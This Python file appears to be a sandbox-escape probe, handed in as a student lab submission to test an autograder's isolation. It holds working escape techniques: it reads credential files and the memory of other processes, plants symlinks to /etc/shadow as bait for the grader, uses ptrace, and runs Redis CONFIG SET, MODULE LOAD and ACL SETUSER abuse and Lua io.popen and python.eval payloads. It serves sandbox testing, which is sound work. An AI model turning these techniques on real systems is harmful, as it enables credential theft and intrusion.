# Generic escape probe: handed in as a student's lab.py (the suite prepends CONFIG and appends one
# function per name the lab's starter defines).  It tries every route it knows, within a few seconds,
# and reports what it reached through every channel it may have: the shared Redis
# (escape:<hex>:found:*), a drop folder on the host, what it prints, and the message of the exception
# each lab function raises (which lands in the student's feedback).  Secrets are strings of the form
# ESCSECRET<hex>_<kind>_<random>: the probe never knows them in advance, it only greps for the prefix.
# Everything it does to processes other than its own is limited to the suite's own canaries
# (signal 0 for everything else), and on 127.0.0.1:6379 it touches only keys under escape:<hex>:.
import ctypes
import ctypes.util
import json
import os
import re
import signal
import socket
import stat
import sys
import time

HEX = CONFIG["hex"]  # noqa: F821 (prepended by the suite)
MARK = "ESCSECRET" + HEX + "_"
SECRET_RE = re.compile(re.escape(MARK).encode() + rb"[A-Za-z0-9]+_[A-Za-z0-9]+")
FOUND = {}  # secret -> first route that showed it
REACHED = []  # escape-class findings: "route: detail"
INFO = []  # what was tried and stopped (for the record only)
_DEADLINE = [0.0]
_DONE = set()


def _left():
    return _DEADLINE[0] - time.monotonic()


def _scan(data, route):
    if isinstance(data, str):
        data = data.encode("utf-8", "replace")
    if not data or MARK.encode() not in data:
        return
    for m in SECRET_RE.findall(data):
        FOUND.setdefault(m.decode(), route)


def _reach(what):
    if what not in REACHED and len(REACHED) < 400:
        REACHED.append(what)


def _read(path, limit=1 << 20):
    try:
        with open(path, "rb") as f:
            return f.read(limit)
    except (OSError, ValueError):
        return None


# ------------------------------------------------------------------ files


def probe_files():
    targets = list(CONFIG["read_targets"])
    for t in targets:
        data = _read(t)
        if data is not None:
            _scan(data, "read:" + t)
            _reach("read:" + t)
    # a bounded walk of the whole file system: names that look interesting are read
    interesting = re.compile(
        r"(canary|escape-|ESCSECRET|solution\.py$|/hidden/|grades\.csv$|results\.json$|"
        r"feedback|/submissions?/|lab\.py$|\.env$|id_rsa|\.pgpass|\.netrc|credentials)"
    )
    seen = 0
    stack = ["/"]
    skip = {"/proc", "/sys", "/dev"}
    solutions = []
    while stack and seen < 40000 and _left() > 0:
        d = stack.pop()
        try:
            entries = os.listdir(d)
        except OSError:
            continue
        _scan("\n".join(entries), "list:" + d)
        for e in entries:
            seen += 1
            p = d.rstrip("/") + "/" + e
            if p in skip or p.startswith(("/usr/share", "/usr/lib/x86_64-linux-gnu", "/var/lib/dpkg")):
                continue
            try:
                st = os.lstat(p)
            except OSError:
                continue
            if stat.S_ISDIR(st.st_mode):
                if "site-packages" in p and p.count("/") > 6:
                    continue
                stack.append(p)
            elif stat.S_ISREG(st.st_mode) and interesting.search(p) and p != __file__:
                data = _read(p, 1 << 16)
                if data is None:
                    continue
                _scan(data, "walk:" + p)
                if p.endswith("solution.py") and b"BEGIN SOLUTION" in data:
                    solutions.append(p)
                if "/hidden/" in p:
                    _reach("hidden-test-readable:" + p)
    for p in solutions[:5]:
        _reach("solution-readable:" + p)
    INFO.append("walk-entries:%d" % seen)


def _writable_dirs():
    cands = [
        "/tmp",
        "/var/tmp",
        "/dev/shm",
        "/run",
        "/run/lock",
        os.getcwd(),
        os.path.expanduser("~"),
        "/root",
        "/home",
        "/work",
        os.path.dirname(os.path.abspath(__file__)),
    ] + list(CONFIG["write_targets"])
    out = []
    for d in cands:
        if d in out:
            continue
        name = os.path.join(d, "escape-%s-w-%d" % (HEX, os.getpid()))
        try:
            with open(name, "w") as f:
                f.write(MARK + "written")
            out.append(d)
        except OSError:
            pass
    return out


def probe_writes():
    dirs = _writable_dirs()
    for d in dirs:
        if any(d == t or d.startswith(t.rstrip("/") + "/") for t in CONFIG["write_targets"]):
            try:  # a file the suite can look for from outside: only there is the write an escape
                open(os.path.join(d, "escape-%s-w-dir" % HEX), "w").close()
            except OSError:
                continue
            _reach("write:" + d)
        INFO.append("writable:" + d)
    # links and FIFOs in every writable folder, named as files a grader might pick up
    link_to = list(CONFIG["read_targets"]) + ["/etc/shadow", "/root", "/"]
    names = [
        "results.json",
        "result.json",
        "report.json",
        "grades.csv",
        "feedback.md",
        "junit.xml",
        "output.json",
        "stdout",
        "stderr",
        "log",
        "score.json",
        "reply.json",
    ]
    for d in dirs:
        if d in (os.getcwd(), os.path.dirname(os.path.abspath(__file__))):
            for i, n in enumerate(names):  # bait for the grader, only in the box's own folders
                p = os.path.join(d, n)
                try:
                    os.symlink(link_to[i % len(link_to)], p)
                except OSError:
                    pass
            try:
                os.mkfifo(os.path.join(d, "results.fifo"))
            except OSError:
                pass
        for t in CONFIG["read_targets"]:
            try:
                os.link(t, os.path.join(d, "escape-%s-hl-%d" % (HEX, abs(hash(t)) % 1000)))
                _reach("hardlink:%s->%s" % (d, t))
            except OSError:
                pass
        try:
            os.mkfifo(os.path.join(d, "escape-%s-fifo" % HEX))
        except OSError:
            pass
    # the course package, the standard library and the venv: can they be changed?  (only checked:
    # nothing is created there but files named escape-<hex>-*, which the suite removes)
    import redis_course

    pkg = os.path.dirname(redis_course.__file__)
    dirs_ = [pkg, os.path.dirname(os.__file__), os.path.dirname(os.path.dirname(pkg))]
    try:
        import site

        dirs_ += site.getsitepackages()
    except Exception:
        pass
    for d in dirs_:
        if os.access(d, os.W_OK):
            _reach("writable:" + d)
            p = os.path.join(d, "escape-%s-w-course" % HEX)
            try:
                with open(p, "w") as f:
                    f.write("x")
                _reach("wrote:" + p)
            except OSError:
                pass
    # SysV shared memory: survives the process unless its IPC namespace dies
    try:
        libc = ctypes.CDLL(None, use_errno=True)
        key = int(HEX[:7], 16)
        sid = libc.shmget(key, 4096, 0o1000 | 0o666)  # IPC_CREAT
        if sid >= 0:
            INFO.append("sysv-shm-created")
    except Exception:
        pass
    try:
        fd = os.open("/dev/mqueue/escape-%s" % HEX, os.O_CREAT | os.O_WRONLY, 0o666)
        os.close(fd)
        INFO.append("mqueue-created")
    except OSError:
        pass


# ------------------------------------------------------------------ processes


def _pids():
    try:
        return [int(p) for p in os.listdir("/proc") if p.isdigit()]
    except OSError:
        return []


def _own_tree():
    me = os.getpid()
    tree = {me}
    try:
        for p in _pids():
            s = _read("/proc/%d/stat" % p, 4096)
            if s and s.rsplit(b")", 1)[-1].split()[1:2] and int(s.rsplit(b")", 1)[-1].split()[1]) in tree:
                tree.add(p)
    except Exception:
        pass
    return tree


def _same_box(pid):
    """A process of the probe's own box: the same PID namespace as the probe (the kernel shows only
    those and their ancestors' namespaces' init) and the same uid.  Such a process is the student's
    run itself (its sandbox's init, its fork server, its other processes), not somebody else's."""
    try:
        mine = os.readlink("/proc/self/ns/pid")
    except OSError:
        mine = None
    try:
        theirs = os.readlink("/proc/%d/ns/pid" % pid)
    except OSError:
        theirs = None
    try:
        same_uid = os.stat("/proc/%d" % pid).st_uid == os.getuid()
    except OSError:
        return False
    inner = mine is not None and mine != _host_pidns()
    return same_uid and inner and (theirs is None or theirs == mine)


def _host_pidns():
    """The PID namespace of the machine's init as the probe sees it (None when hidden)."""
    try:
        return os.readlink("/proc/1/ns/pid") if _read("/proc/1/comm", 64) not in (b"bwrap\n",) else None
    except OSError:
        return None


def probe_proc():
    me = os.getpid()
    pids = _pids()
    INFO.append("pids-visible:%d" % len(pids))
    libc = ctypes.CDLL(None, use_errno=True)
    canary_pids = set(CONFIG.get("canary_pids", []))
    own = _own_tree() | {p for p in pids if _same_box(p)}
    for pid in pids:
        if _left() < 0:
            break
        if pid == me:
            continue
        for part in ("cmdline", "environ", "status", "maps", "cwd", "root", "exe"):
            path = "/proc/%d/%s" % (pid, part)
            if part in ("cwd", "root", "exe"):
                try:
                    _scan(os.readlink(path), path)
                except OSError:
                    pass
                continue
            data = _read(path, 1 << 16)
            if data is not None:
                _scan(data, path)
                if (
                    part == "cmdline"
                    and pid not in own
                    and (b"run.py" in data or b"grade" in data or b"pytest" in data)
                ):
                    _reach("grader-cmdline:%d" % pid)
                if part == "environ" and pid not in own and data:
                    _reach("foreign-environ:%d" % pid)
        try:
            for fd in os.listdir("/proc/%d/fd" % pid)[:64]:
                try:
                    _scan(os.readlink("/proc/%d/fd/%s" % (pid, fd)), "fd")
                except OSError:
                    pass
        except OSError:
            pass
        # /proc/pid/mem of a foreign process: read its stack
        if pid not in own:
            maps = _read("/proc/%d/maps" % pid, 1 << 16) or b""
            for line in maps.splitlines():
                if b"[stack]" in line:
                    lo, hi = [int(x, 16) for x in line.split()[0].split(b"-")]
                    try:
                        with open("/proc/%d/mem" % pid, "rb") as f:
                            f.seek(max(lo, hi - (256 << 10)))
                            blob = f.read(256 << 10)
                        _scan(blob, "mem:%d" % pid)
                        _reach("foreign-mem:%d" % pid)
                    except OSError:
                        pass
        # signals: 0 to everything (no effect), a real one only to the suite's canary process
        try:
            os.kill(pid, 0)
            if pid not in own:
                _reach("signal0:%d" % pid)
        except OSError:
            pass
    for pid in canary_pids:
        try:
            os.kill(pid, signal.SIGUSR1)
            _reach("signal:canary:%d" % pid)
        except OSError:
            pass
        try:
            r = libc.ptrace(0x4206, pid, None, None)  # PTRACE_SEIZE
            if r == 0:
                _reach("ptrace:canary:%d" % pid)
                libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
        except Exception:
            pass
        try:
            os.setpgid(pid, pid)
        except OSError:
            pass


def probe_env():
    for k, v in os.environ.items():
        _scan(k + "=" + v, "os.environ")
    _scan(_read("/proc/self/environ") or b"", "/proc/self/environ")
    _scan(_read("/proc/self/cmdline") or b"", "/proc/self/cmdline")
    # the original environment block at the top of the stack, through ctypes
    try:
        st = (_read("/proc/self/stat") or b"").rsplit(b")", 1)[-1].split()
        # fields after ')' start at field 3; arg_start is field 48, env_end field 51
        arg_start, env_end = int(st[45]), int(st[48])
        if env_end > arg_start:
            blob = ctypes.string_at(arg_start, env_end - arg_start)
            _scan(blob, "stack-env")
    except Exception as e:
        INFO.append("stack-env:%s" % type(e).__name__)
    try:
        libc = ctypes.CDLL(None)
        environ = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
        i = 0
        while environ[i] and i < 4096:
            _scan(environ[i], "libc-environ")
            i += 1
    except Exception:
        pass
    # parents' environments and command lines
    pid = os.getppid()
    for _ in range(8):
        if pid <= 1:
            break
        _scan(_read("/proc/%d/environ" % pid) or b"", "parent-environ:%d" % pid)
        _scan(_read("/proc/%d/cmdline" % pid) or b"", "parent-cmdline:%d" % pid)
        s = _read("/proc/%d/stat" % pid) or b""
        try:
            pid = int(s.rsplit(b")", 1)[-1].split()[1])
        except Exception:
            break


# ------------------------------------------------------------------ network


def _resp(*args):
    out = b"*%d\r\n" % len(args)
    for a in args:
        a = a if isinstance(a, bytes) else str(a).encode()
        out += b"$%d\r\n%s\r\n" % (len(a), a)
    return out


def _talk(sock, *cmds):
    sock.sendall(b"".join(_resp(*c) for c in cmds))
    time.sleep(0.15)
    data = b""
    try:
        while True:
            chunk = sock.recv(65536)
            if not chunk:
                break
            data += chunk
            if len(chunk) < 65536:
                break
    except OSError:
        pass
    return data


def _redis_loot(sock, route):
    """On a Redis the probe should never reach: read the canary keys, leave a found mark."""
    data = _talk(
        sock,
        ("PING",),
        ("GET", "escape:%s:canary" % HEX),
        ("GET", "canary"),
        ("SCAN", "0", "MATCH", "escape:%s:*" % HEX, "COUNT", "1000"),
        ("KEYS", "*canary*"),
    )
    _scan(data, route)
    if data.startswith(b"+PONG") or b"NOAUTH" in data:
        _reach("redis:" + route)
    return data


def _report_to_shared():
    """If 127.0.0.1:6379 answers, write what was found under escape:<hex>:found:."""
    try:
        s = socket.create_connection(("127.0.0.1", 6379), timeout=0.5)
    except OSError:
        return False
    try:
        s.settimeout(0.5)
        payload = json.dumps({"found": FOUND, "reached": REACHED[:200], "pid": os.getpid()})
        _talk(s, ("SET", "escape:%s:found:%d" % (HEX, os.getpid()), payload, "EX", "3600"))
        return True
    finally:
        s.close()


def probe_network():
    ports = sorted(set(CONFIG["tcp_ports"]))
    # every listening TCP port the kernel shows
    for f in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in (_read(f) or b"").splitlines()[1:]:
            parts = line.split()
            if len(parts) > 3 and parts[3] == b"0A":
                ports.append(int(parts[1].split(b":")[-1], 16))
    ports = sorted(set(ports))[:200]
    for port in ports:
        if _left() < 0:
            break
        for host in ("127.0.0.1", "::1"):
            try:
                s = socket.create_connection((host, port), timeout=0.2)
            except OSError:
                continue
            try:
                s.settimeout(0.3)
                _reach("tcp:%s:%d" % (host, port))
                if port in CONFIG["redis_ports"]:
                    _redis_loot(s, "tcp:%d" % port)
            finally:
                s.close()
    # Unix sockets: every path the kernel lists, and the canary's own
    paths = list(CONFIG["unix_sockets"])
    for line in (_read("/proc/net/unix", 1 << 20) or b"").splitlines()[1:]:
        parts = line.split()
        if len(parts) >= 8:
            paths.append(parts[7].decode("utf-8", "replace"))
    own_sock = set()
    for p in set(paths[:2000]):
        if _left() < 0:
            break
        addr = "\0" + p[1:] if p.startswith("@") else p
        if not p.startswith("@") and not os.path.exists(p):
            continue
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(0.3)
        try:
            s.connect(addr)
        except OSError:
            s.close()
            continue
        try:
            if "redis" in p or p.endswith(".sock") or p in CONFIG["unix_sockets"]:
                data = _redis_loot(s, "unix:" + p)
                if p in CONFIG["unix_sockets"] or MARK.encode() in data:
                    _reach("unix-canary:" + p)
                else:
                    own_sock.add(p)
            else:
                _reach("unix:" + p)
        finally:
            s.close()
    INFO.append("unix-redis:%d" % len(own_sock))


# ------------------------------------------------------------------ the Redis the lab gives

LUA = {
    "python.eval": "return tostring(python.eval('__import__(\"os\").getpid()'))",
    "python.builtins": "return tostring(python.builtins.open('/etc/hostname').read())",
    "python.import": "return tostring(python.import_module('os').getcwd())",
    "os.execute": "return tostring(os.execute('true'))",
    "os.getenv": "return tostring(os.getenv('HOME'))",
    "io.open": "local f = io.open('/etc/hostname') return f:read('*a')",
    "io.popen": "local f = io.popen('id') return f:read('*a')",
    "require": "local m = require('os') return tostring(m)",
    "package.loadlib": "return tostring(package.loadlib('libc.so.6', '*'))",
    "debug.getregistry": "local t = debug.getregistry() local n = 0 for k in pairs(t) do n = n + 1 end return tostring(n)",
    "debug.getinfo": "return tostring(debug.getinfo(1).source)",
    "load": "return tostring(load('return 40 + 2')())",
    "loadstring-os": "local v = loadstring('return os')() if type(v) == 'table' and v.execute then return 'os' end "
    "return redis.error_reply('no os library')",
    "string.dump": "return tostring(#string.dump(function() return 1 end))",
    "dofile": "return tostring(dofile('/etc/hostname'))",
    "loadfile": "return tostring(loadfile('/etc/hostname'))",
    "redis.call.__globals__": "return tostring(redis.call.__globals__)",
    "_G-walk": "local out = {} for k, v in pairs(_G) do if type(v) == 'userdata' or k == 'python' then out[#out+1] = k end end return table.concat(out, ',')",
    "global-write": "escape_global_%s = 1 return 'ok'" % HEX,
    "collectgarbage": "return tostring(collectgarbage('count'))",
    "redis.breakpoint": "return tostring(redis.breakpoint())",
    "cjson-bomb": "return #cjson.encode(string.rep('a', 1))",
}
# last: were either let through, it would change the server's Lua for every later script of the box
# (Redis 7 refuses both; so does the box's fakeredis, tests/grading/test_box.py holds it)
LUA["getmetatable-string"] = "local mt = getmetatable('') mt.__index = nil return 'changed'"
LUA["setmetatable-_G"] = "setmetatable(_G, {__index = function(t, k) return k end}) return 'ok'"
LUA_ESCAPES = {
    "python.eval",
    "python.builtins",
    "python.import",
    "os.execute",
    "io.open",
    "io.popen",
    "require",
    "package.loadlib",
    "debug.getregistry",
    "loadstring-os",
    "dofile",
    "loadfile",
    "redis.call.__globals__",
    "global-write",
}
COMMANDS = [
    ("CONFIG", "GET", "*"),
    ("CONFIG", "SET", "dir", "/tmp"),
    ("CONFIG", "SET", "maxmemory", "0"),
    ("CONFIG", "SET", "dbfilename", "escape-%s.rdb" % HEX),
    ("SAVE",),
    ("BGSAVE",),
    ("BGREWRITEAOF",),
    ("DEBUG", "SLEEP", "0"),
    ("DEBUG", "JMAP"),
    ("MODULE", "LOAD", "/tmp/escape-%s.so" % HEX),
    ("MODULE", "LIST"),
    ("ACL", "WHOAMI"),
    ("ACL", "LIST"),
    ("ACL", "SETUSER", "default", "on", "nopass", "+@all", "~*"),
    ("AUTH", "default", ""),
    ("CLIENT", "LIST"),
    ("INFO", "server"),
    ("REPLICAOF", "NO", "ONE"),
    ("SLAVEOF", "NO", "ONE"),
    ("FUNCTION", "LIST"),
    ("CLUSTER", "INFO"),
    ("SCRIPT", "FLUSH"),
    ("LATENCY", "DOCTOR"),
]
ESCAPE_COMMANDS = {
    "CONFIG SET",
    "SAVE",
    "BGSAVE",
    "BGREWRITEAOF",
    "DEBUG SLEEP",
    "DEBUG JMAP",
    "MODULE LOAD",
    "ACL SETUSER",
    "REPLICAOF NO",
    "SLAVEOF NO",
}


SERVER_SIDE = r"""
import os, json
out = {"pid": os.getpid(), "cmdline": open("/proc/self/cmdline", "rb").read().decode("utf-8", "replace"),
       "env": dict(os.environ), "files": {}}
for p in TARGETS:
    try:
        out["files"][p] = open(p).read(4096)
    except Exception as e:
        out["files"][p] = type(e).__name__
try:
    with open(os.path.join(DROP, "lua-server-%d.json" % os.getpid()), "w") as f:
        f.write(json.dumps(out))
except Exception:
    pass
RESULT = json.dumps(out)
"""


_CURRENT = [""]


def probe_lua(r):
    if r is None:
        return
    ok = []
    _CURRENT[0] = "python.eval-server-side"
    # code in the server's process, if Lua can reach Python: it reads the canaries from there
    code = "TARGETS = %r\nDROP = %r\n" % (list(CONFIG["read_targets"]), CONFIG["drop_dir"]) + SERVER_SIDE
    expr = "(lambda g: (exec(%r, g), g['RESULT'])[1])({})" % code
    try:
        res = r.eval("return tostring(python.eval(ARGV[1]))", 0, expr)
        res = res.decode() if isinstance(res, bytes) else str(res)
        _scan(res, "lua-python-server-side")
        pid = json.loads(res)["pid"]
        if pid != os.getpid():  # Python code running in another process: the server's
            _reach("lua:python.eval-in-server-process:%d" % pid)
        else:
            INFO.append("lua-python-in-own-process")
    except Exception:
        pass
    for name, script in LUA.items():
        if _left() < 0:
            break
        _CURRENT[0] = name
        try:
            res = r.eval(script, 0)
            _scan(str(res), "lua:" + name)
            ok.append(name)
            shown = res.decode(errors="replace") if isinstance(res, bytes) else str(res)
            if name in LUA_ESCAPES and not (name == "loadstring-os" and shown in ("nil", "None")):  # noqa
                _reach("lua:" + name)
        except Exception:
            pass
    INFO.append("lua-ok:" + ",".join(ok))
    # Lua reading the canaries directly
    for t in CONFIG["read_targets"][:3]:
        try:
            res = r.eval("local f = io.open(ARGV[1]) return f:read('*a')", 0, t)
            _scan(str(res), "lua-io:" + t)
        except Exception:
            pass
    try:
        res = r.eval("return tostring(os.getenv(ARGV[1]))", 0, CONFIG["env_name"])
        _scan(str(res), "lua-getenv")
    except Exception:
        pass


def probe_redis(r):
    if r is None:
        return
    for cmd in COMMANDS:
        if _left() < 0:
            break
        head = " ".join(cmd[:2]) if len(cmd) > 1 else cmd[0]
        try:
            res = r.execute_command(*cmd)
            _scan(str(res), "cmd:" + head)
            if head in ESCAPE_COMMANDS or cmd[0] in ESCAPE_COMMANDS:
                _reach("cmd:" + head)
        except Exception:
            pass
    # server commands that reach another server: the canary Redis only
    for port in CONFIG["canary_redis_ports"]:
        try:
            r.set("escape-migrate", "x")
            res = r.execute_command("MIGRATE", "127.0.0.1", port, "escape-migrate", 0, 500, "COPY", "REPLACE")
            _reach("cmd:MIGRATE:%d:%s" % (port, res))
        except Exception:
            pass
        try:
            res = r.execute_command("REPLICAOF", "127.0.0.1", port)
            _reach("cmd:REPLICAOF:%d:%s" % (port, res))
            time.sleep(1.0)
            _scan(str(r.execute_command("KEYS", "*")), "replicaof")
            for k in r.execute_command("KEYS", "*canary*") or []:
                _scan(str(r.execute_command("GET", k)), "replicaof-get")
            r.execute_command("REPLICAOF", "NO", "ONE")
        except Exception:
            pass
    # the client object: where does it connect, can its connection be re-pointed?
    try:
        pool = r.connection_pool
        INFO.append("client:" + repr(pool.connection_kwargs)[:200])
        for port in CONFIG["canary_redis_ports"]:
            import redis as _redis

            c = _redis.Redis(host="127.0.0.1", port=port, socket_timeout=0.5)
            _scan(str(c.get("canary")), "redis-py:%d" % port)
            _reach("redis-py:%d" % port)
    except Exception:
        pass
    # fakeredis: is the server object in this process (then its state is the student's to forge)?
    try:
        srv = getattr(r, "_server", None) or getattr(getattr(r, "connection_pool", None), "connection_kwargs", {}).get(
            "server"
        )
        if srv is not None:
            _reach("fakeredis-server-in-process")
    except Exception:
        pass


# ------------------------------------------------------------------ state inside the interpreter


def probe_tamper():
    hits = []
    for name, mod in list(sys.modules.items()):
        if not name.startswith(("redis_course", "course", "grader", "_course")):
            continue
        for attr in dir(mod):
            if any(w in attr.lower() for w in ("fault", "crash", "clock", "timezone", "arm")):
                hits.append(name + "." + attr)
    INFO.append("fault-hooks-visible:%d" % len(hits))
    for h in hits[:50]:
        _reach("tamperable:" + h)


def _report_text():
    # what was found first: the feedback keeps only the start of a message
    # and the escapes before the hooks it merely sees
    reached = sorted(REACHED, key=lambda x: x.startswith("tamperable:"))
    return json.dumps({"found": FOUND, "reached": reached[:60], "info": INFO[:20]})


def _drop():
    d = CONFIG["drop_dir"]
    try:
        with open(os.path.join(d, "report-%d.json" % os.getpid()), "w") as f:
            f.write(_report_text())
        return True
    except OSError:
        return False


SLICES = [
    ("probe_env", 0.3),
    ("probe_proc", 0.7),
    ("probe_network", 0.6),
    ("probe_writes", 0.4),
    ("probe_tamper", 0.1),
    ("probe_files", 0.8),
]


def run(r=None, budget=3.0, part="cmds"):
    key = part if r is not None else "host"
    if key in _DONE:
        return
    _DONE.add(key)
    if r is None:
        for name, secs in SLICES:
            t0 = time.monotonic()
            _DEADLINE[0] = t0 + secs * budget / 2.9
            try:
                globals()[name]()
            except Exception as e:
                INFO.append("%s:%s" % (name, type(e).__name__))
            INFO.append("t:%s:%.2f" % (name, time.monotonic() - t0))
    else:
        _DEADLINE[0] = time.monotonic() + budget

        def step():
            try:
                (probe_redis if part == "cmds" else probe_lua)(r)
            except Exception as e:
                INFO.append("probe_%s:%s" % (part, type(e).__name__))

        # in a thread: a script or command that never returns still lets the report out
        import threading

        t = threading.Thread(target=step, daemon=True)
        t.start()
        t.join(budget + 1.0)
        if t.is_alive():
            _reach("%s-hung-at:%s" % (part, _CURRENT[0]) if part == "lua" else "cmds-hung")
    if _report_to_shared():
        _reach("tcp:127.0.0.1:6379-write")
    if _drop():
        _reach("drop-dir-write")
    sys.stdout.write("ESCAPE-REPORT " + _report_text() + "\n")
    sys.stdout.flush()


def _call(r, name):
    # the first function's calls report the host and the server commands; the others add Lua (which
    # may leave the server's Lua state broken, or hang it)
    run(None, 1.2)
    run(r, 1.0, "cmds")
    if name != CONFIG.get("first_function", name):
        run(r, 1.0, "lua")
    raise RuntimeError("ESCAPE-REPORT " + _report_text())


try:
    run(None, 1.2)
except Exception:
    pass
